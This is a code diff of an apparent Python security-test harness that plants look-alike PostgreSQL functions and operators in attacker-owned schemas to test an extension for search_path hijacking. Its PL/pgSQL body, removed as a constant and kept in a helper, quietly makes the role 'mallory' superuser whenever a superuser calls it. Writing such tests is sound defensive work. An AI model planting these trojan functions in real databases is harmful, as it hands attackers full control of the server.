@@ -50,20 +50,6 @@ RESULTS = {("||", "name", "text"): "text", ("||", "text", "text"): "text",
            ("*", "interval", "int4"): "interval", ("||", "int4", "text"): "text",
            ("||", "text", "int4"): "text"}  # the others are comparisons: boolean
 
-# A look-alike's body: every name in it is qualified, so look-alikes never call each other.
-BODY = """LANGUAGE plpgsql AS $body$
-BEGIN
-    INSERT INTO public.ran VALUES ('{what}', pg_catalog.current_user(), pg_catalog.session_user());
-    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r
-        WHERE r.rolname OPERATOR(pg_catalog.=) pg_catalog.current_user()) THEN
-        BEGIN
-            ALTER ROLE mallory SUPERUSER;
-        EXCEPTION WHEN OTHERS THEN NULL;
-        END;
-    END IF;
-    RETURN {result};
-END
-$body$"""
 # What a look-alike returns: the real answer where the attack needs the caller to go on unaware
 # (0.4.0's worker kept publishing), NULL elsewhere.
 PASS = {"quote_ident(name)": "pg_catalog.quote_ident($1::pg_catalog.text)",
@@ -96,13 +82,13 @@ def plant(c, schemas, dbname="postgres", setup=()):
     stmts = []
     for s in schemas:
         for name, args, result in FUNCTIONS + (OWN if s != "public" else []):
-            stmts.append(f"CREATE FUNCTION {s}.{name}({args}) RETURNS {result} " + BODY.format(
-                what=f"{s}.{name}({args})", result=PASS.get(f"{name}({args})", "NULL")))
+            stmts.append(f"CREATE FUNCTION {s}.{name}({args}) RETURNS {result} " + body(
+                f"{s}.{name}({args})", f"RETURN {PASS.get(f'{name}({args})', 'NULL')};"))
         for i, (op, left, right) in enumerate(OPERATORS):
             fn = f"{s}.op_{i}"
             result = RESULTS.get((op, left, right), "boolean")
-            stmts.append(f"CREATE FUNCTION {fn}({left}, {right}) RETURNS {result} " + BODY.format(
-                what=f"{s}.{op}({left}, {right})", result=PASS.get(f"{op}({left}, {right})", "NULL")))
+            stmts.append(f"CREATE FUNCTION {fn}({left}, {right}) RETURNS {result} " + body(
+                f"{s}.{op}({left}, {right})", f"RETURN {PASS.get(f'{op}({left}, {right})', 'NULL')};"))
             stmts.append(f"CREATE OPERATOR {s}.{op} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = {fn})")
     with c.connect(dbname=dbname) as conn:
         for stmt in [*setup, "SET ROLE mallory", *stmts]:
@@ -174,7 +160,8 @@ def lit(s):
 
 
 def body(what, returns, passthrough=None):
-    """A look-alike's PL/pgSQL body, like BODY: records its run, makes mallory superuser when a
+    """A look-alike's PL/pgSQL body (every name in it qualified, so look-alikes never call each
+    other): records its run, makes mallory superuser when a
     superuser runs it. `returns`: the statement it ends with; `passthrough`, an expression
     (pg_catalog.name($1, ...)): returned instead where it works, so the caller goes on unaware and
     its transaction, with the record of the run, commits (an attacker's choice: 0.4.0's worker
